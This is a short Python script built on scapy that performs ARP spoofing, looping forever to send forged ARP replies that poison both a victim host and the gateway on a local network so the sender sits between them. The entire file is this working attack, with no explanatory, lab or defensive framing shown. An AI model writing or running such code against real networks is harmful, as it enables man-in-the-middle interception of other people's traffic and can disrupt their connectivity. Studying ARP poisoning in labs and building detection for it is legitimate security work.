from scapy.all import ARP, Ether, sendp, srp, IP, TCP, send, RandIP
import time
def spoof(victim, gateway):
    while True:
        sendp(Ether() / ARP(op=2, psrc=gateway, pdst=victim), verbose=0)
        sendp(Ether() / ARP(op=2, psrc=victim, pdst=gateway), verbose=0)
        time.sleep(1)
spoof("192.168.0.21", "192.168.0.1")
